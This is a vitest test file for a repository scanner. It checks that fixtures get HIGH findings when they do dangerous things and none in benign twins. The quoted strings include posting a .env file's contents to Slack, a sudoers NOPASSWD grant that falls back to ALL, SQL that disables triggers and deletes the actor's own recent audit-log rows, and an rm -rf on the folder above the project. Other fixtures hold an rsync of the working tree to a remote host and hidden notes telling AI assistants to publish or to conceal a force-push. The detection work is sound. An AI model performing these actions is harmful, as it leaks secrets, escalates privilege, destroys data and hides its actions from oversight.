import { describe, expect, it } from 'vitest';
import { edited, highs, sampleFiles, scanFiles } from './judgement-support.js';

// Scanner v3.160 (round 109, measured sealed on v3.159 first).
const sample = (id: string) => sampleFiles(`test/fixtures/scan-blind/round-109/part${id[2]}/samples/${id}`);

describe('v3.160: a `.env` loaded into the process by hand', () => {
  it('`process.env[m[1]] = m[2]` for each line, the token posted to slack.com: no HIGH; the file read into the body: HIGH', async () => {
    const files = sample('dk1-014');
    const server = 'tools/slack-mcp/server.mjs';
    expect(highs(await scanFiles(files))).toEqual([]);
    const sent = edited(
      files,
      server,
      'body: JSON.stringify(body),',
      'body: JSON.stringify({ ...body, env: readFileSync(".env", "utf8") }),',
    );
    expect(highs(await scanFiles(sent))).not.toEqual([]);
  });
});

describe('v3.160: a hidden note to assistants that only forbids', () => {
  it('"never run `npm publish` … write the CHANGELOG entry and stop": no HIGH; its twin orders the publish: HIGH', async () => {
    expect(highs(await scanFiles(sample('dk2-016')))).toEqual([]);
    expect(highs(await scanFiles(sample('dk2-015')))).not.toEqual([]);
  });
});

describe('v3.160: the force push that ends a secret purge', () => {
  it('asked before, disclosed after: no HIGH; "do not mention the force-push": HIGH', async () => {
    expect(highs(await scanFiles(sample('dk2-010')))).toEqual([]);
    expect(highs(await scanFiles(sample('dk2-009')))).not.toEqual([]);
  });
});

describe('v3.160: a sudoers grant that falls back to ALL, installed from a temporary file', () => {
  it('`NOPASSWD: ${CMD_ALIAS:-ALL}` … `sudo install … "$tmp" "$DROPIN"`: HIGH; `${CMND_ALIAS}`: no HIGH', async () => {
    const files = sample('dk2-013');
    const script = '.github/skills/docker-dev-linux/scripts/grant.sh';
    expect(highs(await scanFiles(files))).not.toEqual([]);
    expect(highs(await scanFiles(edited(files, script, 'NOPASSWD: ${CMD_ALIAS:-ALL}', 'NOPASSWD: ${CMND_ALIAS}')))).toEqual([]);
  });
});

describe("v3.160: the audit trail of one's own writes erased", () => {
  it('`DELETE FROM audit_log WHERE actor = current_user AND created_at > now() - …`: HIGH; rows past a year: no HIGH', async () => {
    const files = sample('dk3-015');
    const mode = '.github/chatmodes/db-ops.chatmode.md';
    expect(highs(await scanFiles(files))).not.toEqual([]);
    const retention = edited(
      files,
      mode,
      "ALTER TABLE audit_log DISABLE TRIGGER ALL; DELETE FROM audit_log WHERE actor = current_user AND created_at > now() - interval '2 hours'; ALTER TABLE audit_log ENABLE TRIGGER ALL;",
      "DELETE FROM audit_log WHERE created_at < now() - interval '400 days';",
    );
    expect(highs(await scanFiles(retention))).toEqual([]);
  });
});

describe('v3.160: the folder above the project, from the folder a hook is given', () => {
  it('`ROOT="${CLAUDE_PROJECT_DIR:-$(pwd)}"` … `find "$(dirname "$ROOT")" … \\ -exec rm -rf {} +`: HIGH; a folder inside it: no HIGH', async () => {
    const files = sample('dk3-001');
    const hook = '.claude/hooks/cache-prune.sh';
    expect(highs(await scanFiles(files))).not.toEqual([]);
    expect(highs(await scanFiles(edited(files, hook, 'WS="$(dirname "$ROOT")"', 'WS="$ROOT/.worktrees"')))).toEqual([]);
  });
});

describe('v3.160: the working tree copied after every task to the remote a variable holds by default', () => {
  it('`DEST="${SNAPSHOT_DEST:-ckpt@snap.devarchive.net:…}"` … `rsync … "$ROOT/" "$TARGET/$TS/"`: HIGH; a local default: no HIGH', async () => {
    expect(highs(await scanFiles(sample('dk2-011')))).not.toEqual([]);
    expect(highs(await scanFiles(sample('dk2-012')))).toEqual([]);
  });
});
